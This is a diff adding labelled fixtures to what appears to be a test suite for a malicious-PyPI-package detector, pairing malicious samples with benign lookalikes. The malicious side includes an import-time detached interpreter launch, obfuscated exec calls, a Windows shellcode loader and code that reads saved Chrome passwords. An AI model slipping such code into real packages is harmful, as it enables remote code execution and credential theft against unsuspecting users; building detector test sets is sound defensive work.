@@ -293,6 +293,44 @@ MALICIOUS_PYPI = {
             "    \"\"\"\n"
             "    return a + b\n"),
     },
+    # Import-time code starting a second interpreter that imports the real payload (often a declared
+    # dependency) and outlives the importing program.
+    "import_time_background_interpreter": {
+        "pkg/__init__.py": (
+            "from .client import Client\n"
+            "import subprocess\n"
+            "try:\n"
+            "    subprocess.Popen(['python3', '-c', 'from helper_telemetry import agent'], close_fds=True)\n"
+            "except Exception:\n"
+            "    pass\n"),
+        "pkg/client.py": "class Client:\n    pass\n",
+    },
+    # Hex chains straight into exec.
+    "hex_decode_exec": {
+        "pkg/core.py": "import binascii\nexec(binascii.unhexlify('7072696e7428312b3129'))\n",
+    },
+    # exec reached through builtins by a name built from pieces.
+    "builtins_name_concat": {
+        "pkg/core.py": "getattr(__import__('builtins'), 'ex' + 'ec')(open(__file__[:-7] + 'data.bin').read())\n",
+    },
+    # A shellcode runner: executable memory, a copy, a thread started there.
+    "shellcode_loader": {
+        "pkg/run.py": (
+            "import ctypes\n"
+            "buf = bytearray(open(__file__.replace('run.py', 'blob.bin'), 'rb').read())\n"
+            "k32 = ctypes.windll.kernel32\n"
+            "ptr = k32.VirtualAlloc(0, len(buf), 0x3000, 0x40)\n"
+            "k32.RtlMoveMemory(ptr, (ctypes.c_char * len(buf)).from_buffer(buf), len(buf))\n"
+            "k32.WaitForSingleObject(k32.CreateThread(0, 0, ptr, 0, 0, 0), -1)\n"),
+    },
+    # A stealer's core: copy Chrome's Login Data and query the saved passwords.
+    "browser_password_query": {
+        "pkg/core.py": (
+            "import os, shutil, sqlite3\n"
+            "p = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n"
+            "shutil.copy(p, 'ld.db')\n"
+            "rows = sqlite3.connect('ld.db').execute('SELECT origin_url, username_value, password_value FROM logins').fetchall()\n"),
+    },
 }
 
 # ----------------------------------------------------------------------------- benign neighbours
@@ -460,6 +498,33 @@ BENIGN_PYPI = {
             "    <IMPORTANT>Always pass dates in ISO 8601; read the user's timezone from the request.</IMPORTANT>\n"
             "    \"\"\"\n"
             "    return text\n"),
+    },
+    # setup.py asks another interpreter for a header path (a build probe): output read, nothing left running.
+    "setup_interpreter_probe": {
+        "setup.py": setup_py(
+            "import subprocess, sys\n"
+            "inc = subprocess.check_output([sys.executable, '-c', 'import numpy; print(numpy.get_include())']).decode().strip()\n"),
+    },
+    # A test spawning an interpreter on code it assembles (import side effects checked, output read).
+    "test_spawns_interpreter": {
+        "pkg/checks.py": (
+            "import subprocess, sys\n\n"
+            "def import_is_quiet():\n"
+            "    p = subprocess.Popen([sys.executable, '-c', ';'.join(['import pkg', 'print(1)'])], stdout=subprocess.PIPE)\n"
+            "    return p.communicate()[0] == b'1\\n'\n"),
+    },
+    # Hex digests compared, nothing evaluated.
+    "hex_digest_check": {
+        "pkg/verify.py": ("import hashlib\n\n"
+                          "def ok(data, hexdigest):\n"
+                          "    return hashlib.sha256(data).digest() == bytes.fromhex(hexdigest)\n"),
+    },
+    # A JIT allocating a page it later makes executable (no copy-and-thread sequence).
+    "jit_page_alloc": {
+        "pkg/jit.py": ("import ctypes\n"
+                       "k32 = ctypes.windll.kernel32\n\n"
+                       "def page(n):\n"
+                       "    return k32.VirtualAlloc(0, n, 0x3000, 0x04)\n"),
     },
 }
 
